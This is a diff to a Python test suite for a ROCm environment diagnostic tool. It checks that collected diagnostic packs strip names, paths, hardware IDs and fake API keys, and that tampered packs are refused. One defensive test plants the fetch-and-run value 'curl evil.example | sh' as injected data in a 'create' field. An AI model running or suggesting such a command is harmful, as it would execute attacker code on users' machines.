@@ -25,8 +25,13 @@ from rocenv.doctor.checks import CHECKS
 from rocenv.doctor.nameless import Nameless, hides
 from rocenv.doctor.reduced import Reduced
 from rocenv.doctor.seen import Seen
+from rocenv.doctor.tellable import tellable
 from rocenv.errors import RocenvError
 from rocenv.home import Home
+from rocenv.host import registry, system32, windows_texts
+from rocenv.host.defender_exclusions import excluded
+from rocenv.host.long_paths import limited
+from rocenv.host.system32 import names_in
 from rocenv.matrix.load import load
 from rocenv.system import machine
 from tests.host.roots import Root
@@ -254,7 +259,7 @@ NAMES = st.one_of(
 @st.composite
 def secrets(draw: st.DrawFn) -> dict[str, str]:
     """What is private about a machine, each different from all else that is there."""
-    names = draw(st.lists(NAMES, min_size=6, max_size=6, unique_by=str.casefold))
+    names = draw(st.lists(NAMES, min_size=7, max_size=7, unique_by=str.casefold))
     folded = [name.casefold() for name in names]
     assume(all(hides(name) and len(name) > 3 for name in names))
     assume(not any(one in other for one in folded for other in folded if one != other))
@@ -265,13 +270,14 @@ def private(names: list[str], chance: random.Random) -> dict[str, str]:
     def digits(count: int, alphabet: str = "0123456789abcdef") -> str:
         return "".join(chance.choices(alphabet, k=count))
 
-    user, other, host, server, volume, full = names
+    user, other, host, server, volume, full, project = names
     return {
         "user": user,
         "other": other,
         "host": host,
         "server": f"{server}-{digits(3)}-nas",
         "volume": f"{volume}-{digits(3)}-crypt",
+        "project": f"{project}-{digits(3)}-deal",
         "full": f"Zx{digits(3)} {full}qx",
         "mac": "a" + ":".join(digits(2) for _ in range(6))[1:],
         "email": f"{digits(6)}@{digits(5)}.example.net",
@@ -304,6 +310,7 @@ def haunted(root: Root, who: dict[str, str]) -> list[str]:
         "proc/self/mountinfo": (
             f"1 0 8:1 / / rw - ext4 /dev/mapper/{who['volume']} rw",
             f"2 1 0:50 / /home/{user} rw - nfs4 {who['server']}:/export/{user} rw,addr={who['address']}",
+            f"4 1 0:52 / /mnt/{who['project']} rw - ext4 /dev/{who['project']} rw",
             f"3 1 0:51 / /media/{other}/{who['volume']} rw - cifs //{who['server']}/x rw,username={user}",
         ),
         "dev/kmsg": (
@@ -311,10 +318,18 @@ def haunted(root: Root, who: dict[str, str]) -> list[str]:
             f"[ 2.0] amdgpu: serial={number}",
             f"[ 3.0] {host} kernel: amdgpu ethernet {who['mac']} {who['address6']}",
             f"[ 4.0] r8169: {who['mac']}",
+            f"[ 5.0] vfio-pci: guest {who['project']}",
+            f"[ 6.0] audit: pci name=/srv/{who['project']}/x.pdf comm={who['project']}",
+            f"[ 7.0] amdgpu: ring gfx timeout, process {who['project']} pid 77 "
+            f"thread {who['project']}:cs0 pid 78",
+            f"[ 8.0] amdgpu 0000:01:00.0: [gfxhub0] page fault (src_id:0) for process {who['project']} pid 9",
+            f"Nov 20 10:00:00 {who['project']} kernel: [ 9.0] amdgpu: GPU reset begin!",
         ),
         "sys/bus/pci/devices/0000:01:00.0/unique_id": (who["unique"],),
         "sys/class/net/eth0/address": (who["mac"],),
         "etc/machine-id": (who["machine_id"],),
+        "etc/ld.so.conf.d/x.conf": (f"/data/{who['project']}/lib",),
+        f"data/{who['project']}/lib/libamdhip64.so.6": ("",),
         f"home/{user}/notes-of-{user}.txt": (
             f'{user} {who["email"]} {user.upper()} "{user}\'s" file:///home/{user}/x /home/{other}/y',
             f"https://{user}:pw@{host}.local/ {who['machine_id']} {who['sid']} {who['full']}",
@@ -341,6 +356,9 @@ def collected(who: dict[str, str], matrix: Matrix) -> str:
             texts = [machine.read_attribute(path)[0] for path in paths]
             machine.list_folder(f"/home/{who['user']}")
             machine.list_folder("/home")
+            machine.list_folder(f"/data/{who['project']}/lib")
+            machine.mount_of(Path(f"/mnt/{who['project']}/sub"))
+            machine.tried("lock", f"/mnt/{who['project']}/{who['project']}", lambda: "", "")
             machine.open_errno(f"/home/{who['user']}/x")
             machine.mount_of(Path(scene.environ["XDG_CACHE_HOME"]))
             assert scene.environ.get("USER")
@@ -377,7 +395,11 @@ def lived_in(who: dict[str, str], path: Path) -> Iterator[None]:
         "LOGNAME": who["user"],
         "XDG_CACHE_HOME": f"/home/{who['user']}/cache of {who['user']}",
         "HIP_PATH": f"//{who['address']}/{who['user']}",
-        "PATH": os.environ["PATH"],
+        "PATH": f"/srv/{who['project']}/rocm/bin:/opt/{who['project']}/bin:/usr/bin",
+        "LD_LIBRARY_PATH": f"/data/{who['project']}/lib:/opt/rocm-{who['project']}/lib",
+        "TORCH_HOME": f"/srv/{who['project']}/torch",
+        "AMD_ACCOUNT": who["project"],
+        "CUDA_PROXY": f"http://{who['user']}:{who['serial']}@{who['server']}:3128",
     }
     with mock.patch.dict(os.environ, variables, clear=True):
         yield
@@ -391,7 +413,7 @@ def collecting(matrix: Matrix) -> Callable[[dict[str, str]], str]:
 @pytest.fixture(scope="module")
 def of_nobody(matrix: Matrix) -> str:
     """The pack of the same machine, in other hands: what is in it too is no secret."""
-    names = ["qqqqqa", "qqqqqb", "qqqqqc", "qqqqqd", "qqqqqe", "qqqqqf"]
+    names = ["qqqqqa", "qqqqqb", "qqqqqc", "qqqqqd", "qqqqqe", "qqqqqf", "qqqqqg"]
     return collected(private(names, random.Random(1)), matrix)
 
 
@@ -418,11 +440,11 @@ class TestNameless:
     def test_what_is_needed_is_there(self, of_nobody: str) -> None:
         for text in (
             "amdgpu.gttsize=1024",
-            "/home/user/notes-of-user.txt",
+            "/home/user/p",
             "render:x:992:other,user",
             "/home/user rw - nfs4 server:/share",
             "amdgpu: serial=0",
-            "/home/user/cache of user",
+            "ring gfx timeout, process x pid 0 thread x pid 0",
         ):
             assert text in of_nobody
 
@@ -434,6 +456,69 @@ class TestNameless:
         assert reduced.file("/var/lib/dpkg/status", status) == "Package: rocm-core\nVersion: 6.4"
         assert reduced.folder("/opt", ("diary", "rocm-6.4.0")) == ("rocm-6.4.0",)
         assert reduced.folder("/dev", ("kfd", "sda")) == ("kfd", "sda")
+
+    def test_of_a_log_only_what_a_check_looks_for(self) -> None:
+        reduced = Reduced(frozenset(), {}, Nameless({}).text)
+        kept = ("[1] Linux version 6.8.0\n", "[2] amdgpu 0000:03:00.0: amdgpu: GPU reset begin!\n")
+        log = (
+            "[3] nvme 0000:05:00.0: pci function, model Samsung SSD S6B0NL0T123456X\n"
+            "[4] vfio-pci: guest 'win11-merger'\n"
+            "[5] drm: EDID monitor name DELL U2723QE\n"
+            "[6] amdgpu 0000:03:00.0: vgaarb: deactivate vga console\n"
+        )
+        assert reduced.file("/var/log/dmesg", log + "".join(kept)) == "".join(kept)
+        line = (
+            "Nov 20 10:00:00 r kernel: [7] amdgpu: ring gfx timeout, process a b.exe pid 1 thread a:b pid 3"
+        )
+        hidden = reduced.file("/var/log/kern.log", line)
+        assert hidden == "[7] amdgpu: ring gfx timeout, process x pid 0 thread x pid 0"
+
+    @pytest.mark.parametrize(
+        ("text", "secret"),
+        [
+            ("D:\\张三的文件\\sd", "张三"),
+            ("/data/liming/x", "liming"),
+            ("mail li.ming now", "ming"),
+            ("lming ming_li", "ming"),
+            ("/srv/MingLi-thesis/x", "mingli"),
+            ("C:\\Documents and Settings\\Petra\\x", "petra"),
+            ("/Volumes/Petra/x", "petra"),
+            ("\\\\NAS01\\share\\x", "nas01"),
+            ("aabb.ccdd.eeff", "ccdd"),
+            ("S/N: 8XK2LP3", "8xk2lp3"),
+            ("SN=8XK2LP3", "8xk2lp3"),
+            ("unique id: 7f3a91c2d5e8b604", "7f3a"),
+            ("https://hub/x?a=1&token=abcq", "abcq"),
+            ("hf_abcdefghijklmnop", "abcdef"),
+            ("key sk-live-123456", "123456"),
+            ("OPENAI_API_KEY=zzz9", "zzz9"),
+            ("petra-laptop.fritz.box", "petra"),
+            ("proxy.acme.example:3128", "acme"),
+            ("uid=1000(petra)", "petra"),
+            ("by-id/nvme-Samsung_SSD_S6B0NL0T12", "s6b0"),
+        ],
+    )
+    def test_other_forms(self, text: str, secret: str) -> None:
+        hidden = Nameless({"Li Ming": "user", "张三": "user"}).text(text)
+        assert secret not in hidden.casefold()
+
+    @pytest.mark.parametrize(
+        "text",
+        ["/etc/rc.local", "https://github.com/ROCm/ROCm", "libamdhip64.so.6", "test kernel 6.8.0-45-generic"],
+    )
+    def test_what_looks_like_a_name_and_is_none(self, text: str) -> None:
+        assert Nameless({"Tes Tan": "user"}).text(text) == text
+
+    def test_whoever_is_called_like_a_part_of_a_machine(self) -> None:
+        names = dict.fromkeys(("ring", "reset", "pci", "kfd", "max"), "user")
+        nameless = Nameless(names)
+        for line in (
+            "amdgpu 0000:03:00.0: ring gfx_0.0.0 timeout, GPU reset(1) failed",
+            "/sys/bus/pci/devices /dev/kfd /sys/class/kfd/kfd",
+            "max_engine_clk_fcompute 2500",
+        ):
+            assert nameless.text(line) == line
+        assert nameless.text("/home/ring/x /data/max/y") == "/home/user/x /data/user/y"
 
     @pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-16", "latin-1", "gbk"])
     @pytest.mark.parametrize("name", ["alexandra", "jürgen"])
@@ -485,6 +570,114 @@ class TestNameless:
 
     def test_the_company_in_the_name_of_a_cloud_folder(self) -> None:
         assert "Contoso" not in Nameless({}).text(r"C:\Users\user\OneDrive - Contoso Ltd\sd")
+
+
+class TestWindows:
+    """The registry and the folders of a Windows machine hold much that is nobody's business."""
+
+    @pytest.fixture
+    def text(self, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
+        """Return all that is in the pack of such a machine, and what its owner is told of it."""
+
+        def registered(key: str) -> dict[str, object]:
+            if key.endswith("Paths"):
+                return {"D:\\merger": 0, "D:\\sd-deal": 0}
+            if key.endswith("Environment"):
+                return dict(ENVIRONMENT)
+            return {"LongPathsEnabled": 0, "Owner": "merger"}
+
+        def listed(folder: str) -> list[str]:
+            return ["payroll.dll", "nvcuda.dll"] if "tools" in folder else ["payroll.dll"]
+
+        def reads(scene: Scene) -> Seen | None:
+            assert registry.values("SYSTEM\\Session Manager\\Environment")
+            assert limited()
+            assert excluded("D:\\sd-deal\\rocenv")
+            for folder in scene.environ["PATH"].split(";"):
+                assert names_in(folder)
+            return None
+
+        monkeypatch.delenv("ROCENV_SYSROOT", raising=False)
+        path = "C:\\Program Files\\merger vpn;D:\\sd-deal\\tools;C:\\Windows\\System32"
+        monkeypatch.setenv("PATH", path)
+        monkeypatch.setenv("HIP_PATH", "D:\\sd-deal\\ROCm\\5.7")
+        monkeypatch.setattr(registry, "_registered", registered)
+        monkeypatch.setattr(system32, "os", mock.Mock(listdir=listed))
+        monkeypatch.setattr(machine, "WINDOWS", True)
+        monkeypatch.setattr(windows_texts, "_adapters", list)
+        monkeypatch.setattr(run, "CHECKS", (Check("reads", reads, "any"),))
+        file = tmp_path / "pack.zip"
+        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
+        return readable(file).casefold(), "\n".join(pack.about(file, "en"))
+
+    def test_secrets_stay(self, text: tuple[str, str]) -> None:
+        for secret in ("sk-live", "hf_abc", "OPENAI", "HF_TOKEN", "PROXY", "CUSTOMER", "merger", "payroll"):
+            assert secret.casefold() not in text[0]
+        assert "sd-deal" not in text[0]
+
+    def test_no_library_that_folders_are_told_apart_by_is_left_out(self, matrix: Matrix) -> None:
+        names = {file.stands_for for row in matrix.shim_map for file in row.files}
+        names |= {name for row in matrix.hip_sdk for name in (*row.runtime, *row.hiprtc)}
+        libraries = [name for name in names if name.endswith(".dll")]
+        assert len(libraries) > 10
+        assert not [name for name in libraries if not system32.TELLING.fullmatch(name)]
+
+    def test_what_checks_look_at_is_there_and_told(self, text: tuple[str, str]) -> None:
+        for word in ("longpathsenabled", "nvcuda.dll", "hip_path", "exclusions", "\\\\rocenv", "rocm\\\\5.7"):
+            assert word in text[0]
+        assert "HIP_PATH" in text[1]
+        assert "LongPathsEnabled" in text[1]
+        assert "registry.json" in text[1]
+
+
+ENVIRONMENT = {
+    "OPENAI_API_KEY": "sk-live-123456",
+    "HF_TOKEN": "hf_abc",
+    "HTTPS_PROXY": "http://li:pw@proxy.acme.example:3128",
+    "CUSTOMER": "merger",
+    "HIP_PATH": "D:\\sd-deal\\ROCm\\5.7",
+}
+
+
+class TestPlaces:
+    """Folders are as private as names, and one path still lies in another."""
+
+    def test_a_list_keeps_what_checks_look_into(
+        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        plain(root)
+        root.put("srv/merger/lib/libamdhip64.so.6", "")
+        lists = "/srv/merger/lib:/clients/deal/rocm/lib:/srv/other-work/lib:/opt/rocm-6.4.1/lib"
+        monkeypatch.setenv("LD_LIBRARY_PATH", lists)
+        monkeypatch.setenv("TORCH_HOME", "/srv/merger/torch")
+        file = tmp_path / "pack.zip"
+        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
+        shown = pack_file.read(file)[0]
+        first, second, third = shown.variables["LD_LIBRARY_PATH"].split(":")
+        assert re.fullmatch(r"/srv/p[0-9]+/lib", first)
+        assert re.fullmatch(r"/p[0-9]+/p[0-9]+/rocm/lib", second)
+        assert third == "/opt/rocm-6.4.1/lib"
+        assert shown.variables["TORCH_HOME"] == first.replace("lib", "torch")
+        assert shown.folders[first] == ("libamdhip64.so.6",)
+        for word in ("merger", "deal", "other-work"):
+            assert word not in readable(file)
+
+    def test_a_path_in_what_a_check_saw(
+        self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        def tried(_scene: Scene) -> Seen:
+            evidence = ("/srv/merger/a.db: malformed", "C:\\merger\\b.dll", "/usr/lib/x.so")
+            return Seen("check_failed", {"check": "x", "error": "/srv/merger/a.db", "create": "sh"}, evidence)
+
+        monkeypatch.setattr(run, "CHECKS", (Check("tried", tried, "any"),))
+        plain(root)
+        file = tmp_path / "pack.zip"
+        pack.collect(file, Home(tmp_path / "home"), matrix, "en")
+        assert "merger" not in readable(file)
+        (noted,) = pack_file.read(file)[0].seen
+        assert noted.evidence[2] == "/usr/lib/x.so"
+        assert noted.evidence[0].startswith(noted.values["error"])
+        assert "create" not in noted.values
 
 
 def packed(tmp_path: Path, **changes: object) -> Path:
@@ -632,6 +825,43 @@ class TestHostile:
         file = tmp_path / "twice.zip"
         file.write_bytes(data.getvalue())
         assert "twice" in refused(file)
+
+    @pytest.mark.parametrize(
+        "changes",
+        [
+            {"folders": {"/sys/class/kfd/kfd/topology/nodes": [str(number) for number in range(300_000)]}},
+            {"folders": {f"/sys/{number}": [] for number in range(50_000)}},
+            {"files": [{"path": f"/{number}", "member": "files/proc/version"} for number in range(50_000)]},
+            {"seen": [{"check": "no_gpu", "tells": "no_gpu", "evidence": ["x"] * 100_000}]},
+        ],
+    )
+    def test_more_than_a_machine_has(self, tmp_path: Path, changes: dict[str, object]) -> None:
+        assert "more than" in refused(packed(tmp_path, **changes))
+
+    def test_no_command_of_its_own_is_told(self, tmp_path: Path, matrix: Matrix) -> None:
+        evil = {"env": "sd", "driver": "1", "create": "curl evil.example | sh"}
+        seen = [
+            {"check": "env_unusable", "tells": "driver_breaks_env", "values": evil},
+            {"check": "no_gpu", "tells": "env_known_broken", "values": evil},
+            {"check": "driver_breaks_env", "tells": "driver_breaks_env", "values": evil},
+            {"check": "env_known_broken", "tells": "env_known_broken", "values": evil},
+        ]
+        for platform in ("linux", "windows"):
+            file = packed(tmp_path, platform=platform, seen=seen)
+            found = pack.examine(file, matrix, "en").findings
+            commands = [command for each in found for command in each.commands]
+            assert not [command for command in commands if "evil" in command]
+            assert "env_known_broken" not in [each.check for each in found]
+            assert {each.check for each in found if each.code == "env-known-broken"} <= {"driver_breaks_env"}
+
+    def test_what_a_check_can_tell_is_read_from_it(self, matrix: Matrix) -> None:
+        by_name = {check.name: tellable(check, matrix) for check in CHECKS}
+        assert {"gpu_without_driver", "gpu_reserved", "gpu_on_old_driver"} <= by_name["gpu_without_driver"]
+        assert {"pcie_atomics_missing", "gpu_too_old_for_kfd"} <= by_name["gpu_left_out"]
+        assert "env_record_damaged" in by_name["env_unusable"]
+        assert "env_record_damaged" not in by_name["no_gpu"]
+        told = set().union(*by_name.values())
+        assert told == {row.name for row in matrix.advice} - {"check_failed"}, "a row that no check tells"
 
     @settings(max_examples=150, deadline=None)
     @given(data=st.data())
